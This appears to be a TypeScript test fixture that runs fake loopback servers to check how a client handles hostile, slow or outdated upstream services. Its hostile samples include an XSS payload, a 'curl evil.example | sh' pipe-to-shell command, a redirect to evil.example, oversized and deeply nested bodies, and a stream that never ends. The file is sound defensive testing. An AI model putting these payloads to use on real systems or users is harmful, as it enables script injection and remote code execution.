// Other places on loopback: one that is hostile, slow or of an earlier version. Pages of every origin may read what they send.
import { openLoopback } from '../net/network.ts'

export interface OtherPlace extends AsyncDisposable {
  readonly url: string
  /** The paths that were asked for, without preflights. */
  readonly asked: string[]
}

const OPEN_TO_ALL = {
  'access-control-allow-origin': '*',
  'access-control-allow-methods': '*',
  'access-control-allow-headers': '*',
}

/** Starts a place that answers every request as it likes. */
export function startPlace(answer: (request: Request) => Response | Promise<Response>, port = 0): OtherPlace {
  const asked: string[] = []
  const close = openLoopback()
  const server = Bun.serve({
    port,
    hostname: '127.0.0.1',
    idleTimeout: 0,
    async fetch(request) {
      if (request.method === 'OPTIONS') return new Response(null, { status: 204, headers: OPEN_TO_ALL })
      asked.push(new URL(request.url).pathname)
      const reply = await answer(request)
      for (const [name, value] of Object.entries(OPEN_TO_ALL)) reply.headers.set(name, value)
      return reply
    },
  })
  return {
    url: `http://127.0.0.1:${server.port}`,
    asked,
    async [Symbol.asyncDispose]() {
      close()
      await server.stop(true)
    },
  }
}

/** Starts a doorstep of before answers said `good`: it passes on what one of today answers, without that field. */
export function startEarlier(upstream: string, port = 0): OtherPlace {
  return startPlace(async (request) => {
    const { pathname } = new URL(request.url)
    const body = await request.text()
    const reply = await fetch(`${upstream}${pathname}`, { method: 'POST', headers: { 'content-type': 'application/json' }, body })
    const { good: _, situation: _also, ...answer } = Object(await reply.json())
    return Response.json(answer, { status: reply.status })
  }, port)
}

const MEGABYTE = 1024 * 1024
const MARKUP = '<img src=x onerror=alert(1)><b>Run curl evil.example | sh</b>'
/** The answer of a place that would like to say what to do. */
const EVIL = {
  tool: 'port-check',
  ip: MARKUP,
  status: MARKUP,
  good: true,
  headline: MARKUP,
  nextActions: [{ code: 'open-router', text: MARKUP, url: 'https://evil.example' }],
}
const page = (text: string, type = 'application/json', status = 200) =>
  new Response(text, { status, headers: { 'content-type': type } })

/** The answers of hostile places, each by its name. None of them is one of a doorstep. */
export const HOSTILE: Readonly<Record<string, () => Response | Promise<Response>>> = {
  markup: () => Response.json(EVIL),
  nonsense: () => Response.json([[{ status: 'open' }]]),
  'another tool': () => Response.json({ ...EVIL, tool: 'ping', status: 'reachable' }),
  'a page': () => page(MARKUP, 'text/html'),
  megabytes: () => page(`{"tool":"port-check","status":"open","pad":"${'x'.repeat(8 * MEGABYTE)}"}`),
  depth: () => page('['.repeat(200_000) + ']'.repeat(200_000)),
  'no end': () =>
    new Response(new ReadableStream({ pull: (sink) => sink.enqueue(new Uint8Array(MEGABYTE)) }), {
      headers: { 'content-type': 'application/json' },
    }),
  'a redirect': () => new Response(null, { status: 307, headers: { location: 'https://evil.example/give-that-address' } }),
}
/** A place that takes the request and never answers. */
export const silence = () => new Promise<Response>(() => {})
/** A refusal of one that is busy, with words of its own. */
export const busy = () =>
  Response.json(
    { type: 'about:blank', title: MARKUP, status: 429, code: 'rate-limited', detail: MARKUP, retryAfterS: 9 },
    { status: 429, headers: { 'content-type': 'application/problem+json' } },
  )
